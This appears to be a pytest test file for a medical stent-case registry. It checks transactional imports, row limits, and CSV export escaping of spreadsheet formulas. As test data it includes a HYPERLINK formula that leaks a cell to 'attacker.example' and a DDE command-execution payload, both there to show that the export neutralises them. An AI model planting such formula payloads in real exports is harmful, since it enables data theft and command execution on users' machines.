"""Imports and exports attacked: half-stored archives, spreadsheet formulas, too many rows.

On SQLite and PostgreSQL, through the core, the CLI and the web: an archive
whose runs fail to store after its cases were accepted leaves nothing behind; a
case without a uid keeps its runs; a CSV export never hands a spreadsheet a
formula, and reads back exactly; an import over the row limit is refused.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import httpx
import polars as pl
import pytest
import sqlalchemy as sa

from stentguide.cases import Registry, schema
from stentguide.cases.exchange import ARCHIVE_FORMAT, export_table, import_archive, import_table
from stentguide.errors import InputError, StoreError
from tests.cases.conftest import make_case, make_session
from tests.conftest import CliRun
from tests.web_cases.conftest import Live, csrf_of, login

FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]


def _archive(path: Path, cases: list[dict[str, object]]) -> Path:
    path.write_text(json.dumps({"format": ARCHIVE_FORMAT, "cases": cases}), encoding="utf-8")
    return path


def _half_good_archive(path: Path, prefix: str) -> Path:
    """Two valid cases whose runs share one session id: the second run cannot be stored."""
    shared = make_session()
    return _archive(
        path,
        [
            {**make_case(patient_id=f"{prefix}-1"), "runs": [{"session": shared}]},
            {**make_case(patient_id=f"{prefix}-2"), "runs": [{"session": shared}]},
        ],
    )


def _runs(registry: Registry) -> int:
    with registry.read() as conn:
        return int(conn.execute(sa.select(sa.func.count()).select_from(schema.runs)).scalar_one())


def _stored(registry: Registry, prefix: str) -> int:
    return sum(1 for case in registry.cases.iter() if case.patient_id.startswith(prefix))


def test_a_half_good_archive_stores_nothing(database_url: str, tmp_path: Path) -> None:
    with Registry.open(database_url) as registry:
        runs_before = _runs(registry)
        with pytest.raises(StoreError, match="another case"):
            import_archive(registry, _half_good_archive(tmp_path / "a.json", "CORE"), actor="t")
        assert _stored(registry, "CORE") == 0
        assert _runs(registry) == runs_before


def test_a_half_good_archive_stores_nothing_from_the_cli(
    cli: CliRun, database_url: str, tmp_path: Path
) -> None:
    path = _half_good_archive(tmp_path / "a.json", "CLI")
    done = cli("cases", "import", str(path), "--db", database_url)
    assert done.returncode == 1 and "another case" in done.stderr
    with Registry.open(database_url) as registry:
        assert _stored(registry, "CLI") == 0


def test_a_half_good_archive_stores_nothing_from_the_web(live: Live, tmp_path: Path) -> None:
    path = _half_good_archive(tmp_path / "a.json", "WEB")
    with httpx.Client(base_url=live.url, timeout=60) as operator:
        assert login(operator, "otto").status_code == 303
        page = operator.get("/cases/import")
        answer = operator.post(
            "/cases/import",
            data={"csrf_token": csrf_of(page.text)},
            files={"file": ("cases.json", path.read_bytes(), "application/json")},
        )
        assert answer.status_code == 409 and "another case" in answer.text
    assert _stored(live.registry, "WEB") == 0


def test_an_archive_case_without_uid_keeps_its_runs(database_url: str, tmp_path: Path) -> None:
    session = make_session()
    path = _archive(
        tmp_path / "a.json",
        [
            {
                **make_case(patient_id="NOUID-1"),
                "runs": [{"session": session, "outcome_id": None, "outcome_category": None}],
            }
        ],
    )
    with Registry.open(database_url) as registry:
        assert import_archive(registry, path, actor="t") == 1
        (case,) = [c for c in registry.cases.iter() if c.patient_id == "NOUID-1"]
        assert [run.run_id for run in case.runs] == [session["session_id"]]


def test_a_csv_export_hands_a_spreadsheet_no_formula(database_url: str, tmp_path: Path) -> None:
    with Registry.open(database_url) as registry:
        cases = [
            make_case(patient_id=f"FORMULA-{i}", operator=value, outcome=value)
            for i, value in enumerate([*FORMULAS, "'=already quoted", "plain"])
        ]
        cases.append(make_case(patient_id="FORMULA-9", devices={"stent": "=cmd|' /C calc'!A0"}))
        registry.cases.add_many(cases, actor="t")
        path = tmp_path / "cases.csv"
        export_table(registry, path)
    cells = [cell for row in csv.reader(io.StringIO(path.read_text())) for cell in row]
    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells), cells
    assert "'" + FORMULAS[0] in cells and "''=already quoted" in cells and "plain" in cells
    # the round trip is exact: a fresh registry reads back what was written
    other = tmp_path / "other.sqlite"
    with Registry.open(f"sqlite:///{other}") as fresh:
        import_table(fresh, path, actor="t")
        back = {c.patient_id: c for c in fresh.cases.iter()}
    assert back["FORMULA-0"].operator == FORMULAS[0]
    assert back["FORMULA-4"].outcome == "'=already quoted"
    assert back["FORMULA-9"].devices["stent"] == "=cmd|' /C calc'!A0"


def test_an_import_over_the_row_limit_is_refused(database_url: str, tmp_path: Path) -> None:
    rows = [
        {
            "patient_id": f"MANY-{i}",
            "procedure_date": "2024-01-01",
            "operator": "dr-a",
            "access": "radial",
            "lesions": json.dumps([{"vessel": "LAD"}]),
            "devices": json.dumps({"guide": "6F"}),
            "outcome": "",
            "complications": "[]",
        }
        for i in range(11)
    ]
    csv_path = tmp_path / "many.csv"
    pl.DataFrame(rows).write_csv(csv_path)
    parquet_path = tmp_path / "many.parquet"
    pl.DataFrame(rows).write_parquet(parquet_path)
    archive = _archive(
        tmp_path / "many.json", [make_case(patient_id=f"MANY-{i}") for i in range(11)]
    )
    with Registry.open(database_url) as registry:
        for path in (csv_path, parquet_path):
            with pytest.raises(InputError, match="more than 10 cases"):
                import_table(registry, path, actor="t", max_rows=10)
        with pytest.raises(InputError, match="more than 10 cases"):
            import_archive(registry, archive, actor="t", max_rows=10)
        assert _stored(registry, "MANY") == 0
        assert import_table(registry, csv_path, actor="t", max_rows=11) == 11
